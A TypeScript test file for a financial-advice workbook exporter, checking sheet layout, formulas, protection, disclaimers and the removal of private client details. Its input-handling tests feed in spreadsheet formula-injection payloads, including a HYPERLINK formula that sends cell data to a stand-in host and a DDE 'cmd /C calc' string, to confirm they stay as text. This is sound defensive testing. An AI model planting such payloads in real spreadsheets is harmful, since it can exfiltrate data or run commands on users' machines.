/** The workbook file, and user input in it. */
import { disclaimer, disclaimerPoints } from '@advice-builder/contract';
import { isoDate } from '@advice-builder/kernel';
import { describe, expect, it } from 'vitest';
import { enteredFacts } from '../../packages/reports/src/compose/pages/assumptions.ts';
import type { DocumentJob } from '../../packages/reports/src/job.ts';
import { columnUnder, workbookOfCase as of, recomputed, workbookJob, workbookOf } from './workbook-cases.ts';
import { Spreadsheet } from './workbook-formulas.ts';
import { sheetOf } from './xlsx-reader.ts';

describe('the workbook file', () => {
  it('has its sheets in order, each explained in its first cell, with frozen headings and no merged cells', () => {
    const { book } = of('single-2025-fees');
    expect(book.sheets.map(({ name }) => name)).toEqual([
      'Comparison',
      'Years',
      'Current Situation',
      '1 Rent the home',
      '2 Sell the home',
      '3 DAP from the deposit',
      'Fees',
      'Inputs',
      'What was entered',
      'Working',
      'Rates',
      'About',
    ]);
    for (const { name, cells, movesFrom, hasMergedCells, widths } of book.sheets) {
      expect(name.length).toBeLessThanOrEqual(31);
      expect(cells.get('A1')?.value, name).toMatch(/^(Month by month|What was entered|[A-Z][a-z]+): .+\.$/);
      expect(hasMergedCells).toBe(false);
      expect(widths.length).toBeGreaterThan(1);
      if (name !== 'About') {
        const row = Number(movesFrom?.replace(/\D/g, ''));
        expect(cells.has(`A${row - 1}`) && cells.has(`A${row}`), `${name} is frozen under its headings`).toBe(true);
      }
    }
    expect(String(sheetOf(book, '2 Sell the home').cells.get('A2')?.value)).toContain(
      'grey values, which do not change',
    );
    expect(String(sheetOf(book, 'Inputs').cells.get('A2')?.value)).toContain('Change a yellow cell');
  });

  it('has amounts and dates as numbers, and formulas without a leading sign', () => {
    const { book } = of('single-2025-fees');
    const months = sheetOf(book, '2 Sell the home').cells;
    expect(months.get('L6')?.format).toBe('#,##0.00;[Red]-#,##0.00');
    expect(months.get('A6')).toMatchObject({ value: isoDate('2026-12-01') + 25_569, format: 'mmm yyyy' });
    expect(months.get('E6')?.formula).toBe('MAX(0,B6+C6-D6)*Inputs!D6/100/12');
    expect(months.get('B6')?.formula).toBe('Inputs!D5');
    expect(months.get('B7')?.formula).toBe('L6');
    expect(sheetOf(book, 'Comparison').cells.get('D5')?.formula).toBe("SUM('2 Sell the home'!H6:H65)");
    for (const { cells } of book.sheets) {
      for (const { formula } of cells.values()) expect(formula ?? '').not.toMatch(/^=|\[|!#|https?:|file:/);
    }
  });

  it('repeats headings on each page, with client, reference and page number in the footer', () => {
    const { book } = of('single-2025-fees');
    const titles = book.names.filter(([name]) => name === '_xlnm.Print_Titles').map(([, cells]) => cells);
    expect(titles).toContain("'2 Sell the home'!$A:$A,'2 Sell the home'!$5:$5");
    expect(titles).toHaveLength(book.sheets.length - 1);
    for (const { name, foot, page, breaks } of book.sheets) {
      expect(foot, name).toBe('&L&8Iris Orde, ORD-1, Estimates, not advice.&R&8&A, page &P of &N');
      expect(page).toMatchObject({ paperSize: '9', orientation: 'landscape' });
      const isOfMonths = /^(Current Situation|\d .*)$/.test(name);
      // The months are printed in two blocks of columns; the other sheets on one page width.
      expect([page.scale, page.fitToWidth, breaks]).toEqual(
        isOfMonths ? ['65', undefined, [13]] : [undefined, '1', []],
      );
    }
    expect(book.author).toBe('Demonstration practice (Demo Adviser)');
  });

  it('protects all cells except the yellow ones, which have names', () => {
    const { book } = of('single-2025-fees');
    for (const { name, cells, isProtected } of book.sheets) {
      expect(isProtected, name).toBe(true);
      for (const [address, { fill, isOpen }] of cells) expect(isOpen, `${name}!${address}`).toBe(fill !== undefined);
    }
    const named = new Map(book.names);
    expect(named.get('Bank_at_start_Current')).toBe("'Inputs'!$B$5");
    expect(named.get('Interest_Scenario_2')).toBe("'Inputs'!$D$6");
    expect(named.get('Care_change_Scenario_3')).toBe("'Inputs'!$E$8");
  });

  it('says on each sheet that fees and pension do not change, and marks a changed figure', () => {
    const { book } = of('single-2025-fees');
    const [plain, changed] = [new Spreadsheet(book), new Spreadsheet(book, { 'Inputs!D5': 1 })];
    const places = [
      ['Comparison', 'A3'],
      ['Years', 'A3'],
      ['Inputs', 'A3'],
      ['2 Sell the home', 'A4'],
    ] as const;
    for (const [sheet, cell] of places) {
      expect(plain.at(sheet, cell)).toBe('As in the report. Fees and pension do not change with a yellow cell.');
      expect(changed.at(sheet, cell)).toMatch(/^Changed here: this no longer equals the report\. Fees and pension/);
    }
    // The other scenarios are unchanged.
    expect(changed.at('1 Rent the home', 'A4')).toMatch(/^As in the report/);
    for (const typed of [{ 'Inputs!B6': 4.51 }, { 'Inputs!C7': -1 }, { 'Inputs!E8': 0.5 }])
      expect(new Spreadsheet(book, typed).at('Comparison', 'A3')).toMatch(/^Changed here/);
  });

  it('has the entries in the words of the report, and the fees per day', () => {
    const { book, input } = of('single-2025-fees');
    const entered = [...sheetOf(book, 'What was entered').cells.values()].map(({ value }) => value);
    for (const { label, value } of enteredFacts(input, input.current))
      expect(entered).toEqual(expect.arrayContaining([label, value]));
    const fees = sheetOf(book, 'Fees').cells;
    const basic = [...fees].filter(([, { value }]) => value === 'Basic Daily Fee').map(([address]) => address.slice(1));
    const columns = input.scenarios.flatMap(({ five }) => five.report.agedCare.flatMap((panel) => panel.columns));
    expect(basic.map((row) => fees.get(`F${row}`)?.value)).toEqual(
      columns.map(({ basicDailyFee }) => basicDailyFee.value),
    );
    expect(basic.map((row) => fees.get(`D${row}`)?.value)).toEqual(columns.map(({ asAt }) => isoDate(asAt) + 25_569));
  });

  it('names modelling choices without the path of their documentation', () => {
    const { book } = of('margaret');
    const laws = [...sheetOf(book, 'Working').cells.values()].map(({ value }) => String(value)).join('\n');
    expect(laws).toContain('Modelling choice');
    expect(laws).not.toMatch(/docs\/|\.md/);
  });

  it('has only workbook parts: no macro, no link, nothing external', () => {
    const { book } = of('margaret');
    expect(
      book.parts.every((part) =>
        /^(\[Content_Types\]|_rels\/\.rels|docProps\/core|xl\/(workbook|styles|_rels\/workbook|worksheets\/sheet\d+)).*$/.test(
          part,
        ),
      ),
    ).toBe(true);
    expect(book.created).toBe('2026-11-20T23:00:00.000Z');
  });

  it('states its sources, and that it is not advice', () => {
    const { book } = of('single-2025-fees');
    const about = [...sheetOf(book, 'About').cells.values()].map(({ value }) => value);
    for (const text of [
      'Demo Adviser',
      'Demonstration practice',
      disclaimer.lead,
      ...disclaimerPoints({ rateIndexation: null, supportAtHomeBudgets: 'official' }),
    ]) {
      expect(about).toContain(text);
    }
    expect(about[0]).toContain('Estimates, not advice');
    expect(about.join('\n')).toContain('4 of Scenario 3');
  });

  it('has the same bytes if made again in any time zone, and other bytes at another time', () => {
    const job = workbookJob('margaret');
    const { bytes } = of('margaret');
    const zone = process.env.TZ;
    try {
      process.env.TZ = 'America/New_York';
      expect(Buffer.from(workbookOf(job).bytes).equals(Buffer.from(bytes))).toBe(true);
    } finally {
      if (zone === undefined) delete process.env.TZ;
      else process.env.TZ = zone;
    }
    const later: DocumentJob = { ...job, source: { ...job.source, calculatedAt: '2026-11-21T10:00:02+11:00' } };
    expect(Buffer.from(workbookOf(later).bytes).equals(Buffer.from(bytes))).toBe(false);
  });

  it('compares nothing if it has one scenario', () => {
    const { book } = workbookOf(workbookJob('thomas', { scenarios: [2], preferred: 2 }));
    expect(book.sheets.map(({ name }) => name)).toEqual([
      'Comparison',
      'Years',
      '2 Both in care',
      'Fees',
      'Inputs',
      'What was entered',
      'Working',
      'Rates',
      'About',
    ]);
    expect(recomputed(book).faults).toEqual([]);
    expect([...sheetOf(book, 'Comparison').cells.values()].some(({ value }) => /^Difference/.test(String(value)))).toBe(
      false,
    );
  });

  it('shows an assumed death on a separate sheet, to the cent, and is otherwise unchanged', () => {
    const job = workbookJob('couple-one-in-care');
    const deaths = { 1: { clientIndex: 0, month: '2029-03-01', expensesPercent: 60 } } as const;
    const graphSetting = { ...job.record.graphSetting, deaths };
    const { book, input } = workbookOf({ ...job, record: { ...job.record, graphSetting } });
    const [laid] = input.ifDies;
    const own = input.scenarios[1]?.five.report.year.rows;
    const rows = laid?.five.report.year.rows;
    if (laid === undefined || rows === undefined || own === undefined) throw new Error('no death is laid over it');
    const { cells } = sheetOf(book, 'If one of them dies');
    const amounts = ['C', 'D'].map((column) => [5, 6, 7].map((row) => cells.get(`${column}${row}`)?.value));
    expect(amounts).toEqual(
      [own, rows].map((of) => [of[4]?.netWorth.value, of[4]?.balance.value, of[2]?.pension.value]),
    );
    expect(cells.get('E5')?.formula).toBe('ROUND(D5-C5,4)');
    expect(String(cells.get('A5')?.value)).toMatch(/^Scenario 1 - .*, if Arthur dies in March 2029$/);
    expect([...cells.values()].map(({ value }) => value)).toContain(
      'Rose is tested as a single person from that month.',
    );
    expect(cells.get('A1')?.value).toMatch(/^If one of them dies: .+\.$/);
    expect(recomputed(book).faults).toEqual([]);
    const others = book.sheets.filter(({ name }) => name !== 'If one of them dies' && name !== 'About');
    expect(others).toEqual(of('couple-one-in-care').book.sheets.filter(({ name }) => name !== 'About'));
  });

  it('has fifteen years if they were chosen', () => {
    const { book, input } = workbookOf(workbookJob('margaret', { extendYears: true }));
    expect(recomputed(book).faults).toEqual([]);
    expect([...columnUnder(book, '1 Sell the home', 'Closing').values()].at(-1)).toBeCloseTo(
      input.scenarios[1]?.fifteen.projection.columns.bankClosing[179] as number,
      6,
    );
    const comparison = sheetOf(book, 'Comparison').cells;
    expect(comparison.get('A1')?.value).toContain('15 years, and further down after five');
    // The report's five years are below, and equal those of a five-year workbook.
    const short = sheetOf(of('margaret').book, 'Comparison').cells;
    const worthIn = (cells: typeof comparison) =>
      [...cells].flatMap(([address, { value }]) =>
        value === 'Net worth' ? [cells.get(address.replace('A', 'C'))?.value] : [],
      );
    expect(worthIn(comparison)).toHaveLength(2);
    expect(worthIn(comparison)[1]).toBeCloseTo(Number(worthIn(short)[0]), 6);
  });
});

describe('user input', () => {
  const HOSTILE = [
    '=HYPERLINK("http://example.test/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    '<b>&"\'</t></is></c>',
    '\u0000\u0007bell\u001b \ud800 half',
    '_x0041_ \u4e2d\u6587 \u0639\u0631\u0628\u064a \u{1f3e0}',
  ] as const;
  const CLEAN = [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3], 'bell  half', HOSTILE[5]];

  function hostileJob(): DocumentJob {
    const job = workbookJob('couple-one-in-care');
    const scenario = job.scenarios['0'];
    if (scenario === undefined) throw new Error('scenario 0');
    const scenarios = Object.fromEntries(HOSTILE.map((name, sid) => [String(sid), { ...scenario, name }]));
    const ids = HOSTILE.map((_, sid) => sid);
    return {
      ...job,
      choices: { ...job.choices, scenarios: ids, preferred: 5 },
      scenarios,
      preparedBy: { person: HOSTILE[1], practice: HOSTILE[4] },
      record: {
        ...job.record,
        reference: '='.repeat(67),
        description: 'SECRET-description',
        notes: [{ id: 1, datetime: '2026-11-21T10:00:00+11:00', body: 'SECRET-note' }],
        clients: job.record.clients.map((client, index) => ({
          ...client,
          first_name: index === 0 ? HOSTILE[0].slice(0, 30) : '-2',
          last_name: 'W'.repeat(67),
          poaRep: true,
          poaRepName: 'SECRET-attorney',
          poaRepRelation: 'SECRET-relation',
          health: 4,
          dementia: true,
        })),
      },
      source: { ...job.source, reference: '='.repeat(67) },
    };
  }

  it('stays text, whatever it looks like, without the characters that XML does not allow', () => {
    const { book } = workbookOf(hostileJob());
    const inputs = sheetOf(book, 'Inputs').cells;
    const headings = ['B', 'C', 'D', 'E', 'F', 'G'].map((column) => inputs.get(`${column}4`));
    expect(headings.map((cell) => cell?.value)).toEqual(
      CLEAN.map((name, sid) => (sid === 0 ? name : `Scenario ${sid} - ${name}`)),
    );
    expect(headings.every((cell) => cell?.formula === undefined)).toBe(true);
    const about = sheetOf(book, 'About').cells;
    expect([...about.values()].map(({ value }) => value)).toEqual(expect.arrayContaining([HOSTILE[1], 'bell  half']));
    for (const { name, cells } of book.sheets) {
      for (const { formula } of cells.values()) {
        expect((formula ?? '').replace(/'[^']*'!/g, ''), name).not.toMatch(/HYPERLINK|cmd|@|WWW/);
      }
    }
    expect(recomputed(book).faults).toEqual([]);
  });

  it('names the sheet of a scenario by its number and its name, in 31 characters that Excel accepts', () => {
    const { book } = workbookOf(hostileJob());
    const names = book.sheets.map(({ name }) => name).slice(2, 2 + HOSTILE.length);
    expect(names).toEqual([
      'HYPERLINK( http example.test &A',
      '1 1 cmd ’ C calc’ A0',
      '2 SUM(A1 A9)',
      '3 b & ’ t is c',
      '4 bell half',
      '5 x0041 \u4e2d\u6587 \u0639\u0631\u0628\u064a',
    ]);
    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(HOSTILE.length);
  });

  it('is left out if only the adviser may see it: notes, attorney, health', () => {
    const { book } = workbookOf(hostileJob());
    const all = book.sheets.flatMap(({ cells }) => [...cells.values()].map(({ value }) => String(value))).join('\n');
    expect(all).not.toMatch(/SECRET|health|dementia|attorney/i);
    expect(all).toContain('W'.repeat(67));
  });
});
